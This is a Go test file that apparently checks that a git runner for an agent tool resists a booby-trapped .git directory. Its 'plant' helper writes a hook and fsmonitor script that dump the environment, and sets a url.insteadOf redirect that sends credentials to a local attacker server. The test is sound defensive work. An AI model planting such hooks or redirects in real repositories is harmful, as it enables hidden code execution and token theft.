package gitrun

import (
	"context"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"testing"
)

// plant does what a hostile test can do to a work tree's .git when it runs
// unsandboxed: a hook, an fsmonitor, and a url.insteadOf that sends the
// push to a server of its own. Each program it plants leaves a file in
// proof when run.
func plant(t *testing.T, dir, attacker string) (proof string) {
	t.Helper()
	proof = filepath.Join(t.TempDir(), "ran")
	script := "#!/bin/sh\necho \"$0\" >> " + proof + "\nenv >> " + proof + "\n"
	hook := filepath.Join(dir, ".git", "hooks", "post-index-change")
	os.WriteFile(hook, []byte(script), 0o755)
	monitor := filepath.Join(dir, "fsmonitor.sh")
	os.WriteFile(monitor, []byte(script), 0o755)
	os.WriteFile(filepath.Join(dir, "file.txt"), []byte("x\n"), 0o644)
	for _, kv := range [][2]string{{"core.fsmonitor", monitor}, {"url." + attacker + "/.insteadOf", "https://github.com/"}} {
		if out, err := exec.Command("git", "-C", dir, "config", kv[0], kv[1]).CombinedOutput(); err != nil {
			t.Fatalf("git config %s: %v\n%s", kv[0], err, out)
		}
	}
	return proof
}

// attacker is an HTTP server that records the Authorization headers it is
// sent.
func attacker(t *testing.T) (url string, auth func() []string) {
	var mu sync.Mutex
	var got []string
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		got = append(got, r.Header.Get("Authorization"))
		mu.Unlock()
		http.Error(w, "no", http.StatusUnauthorized)
	}))
	t.Cleanup(srv.Close)
	return srv.URL, func() []string { mu.Lock(); defer mu.Unlock(); return append([]string(nil), got...) }
}

func TestPlantedHooksFsmonitorAndInsteadOfNeverRun(t *testing.T) {
	ctx := context.Background()
	dir := newRepo(t)
	url, auth := attacker(t)
	proof := plant(t, dir, url)
	r := Runner{Dir: dir, Env: runnerBase(), Token: token}
	for _, args := range [][]string{{"status", "--porcelain"}, {"add", "--all"}, {"update-index", "--refresh"}} {
		if _, err := r.Run(ctx, args...); err != nil {
			t.Fatalf("git %v: %v", args, err)
		}
	}
	if b, err := os.ReadFile(proof); err == nil {
		t.Errorf("a program planted in .git ran under agentfix's git:\n%s", b)
	}
	// The fetch goes where insteadOf says, but without the token.
	r.Exec(ctx, Cmd{Args: []string{"ls-remote", "https://github.com/o/r"}, Auth: true})
	seen := auth()
	if len(seen) == 0 {
		t.Fatal("insteadOf did not send the request to the attacker: the test proves nothing")
	}
	for _, h := range seen {
		if h != "" {
			t.Errorf("the attacker's server got Authorization %q", h)
		}
	}
}

// TestPlantedProgramsRunUnderPlainGit shows the attack works against git
// without the policy: the hook and fsmonitor run, and an unscoped header
// reaches the attacker.
func TestPlantedProgramsRunUnderPlainGit(t *testing.T) {
	dir := newRepo(t)
	url, auth := attacker(t)
	proof := plant(t, dir, url)
	for _, args := range [][]string{{"status", "--porcelain"}, {"add", "--all"}} {
		exec.Command("git", append([]string{"-C", dir}, args...)...).Run()
	}
	if b, _ := os.ReadFile(proof); !strings.Contains(string(b), "fsmonitor.sh") || !strings.Contains(string(b), "post-index-change") {
		t.Errorf("plain git did not run the planted programs:\n%s", b)
	}
	exec.Command("git", "-C", dir, "-c", "http.extraheader=AUTHORIZATION: basic "+basicAuth(token), "ls-remote", "https://github.com/o/r").Run()
	if seen := auth(); len(seen) == 0 || seen[0] == "" {
		t.Errorf("an unscoped header did not reach the attacker: %q", seen)
	}
}
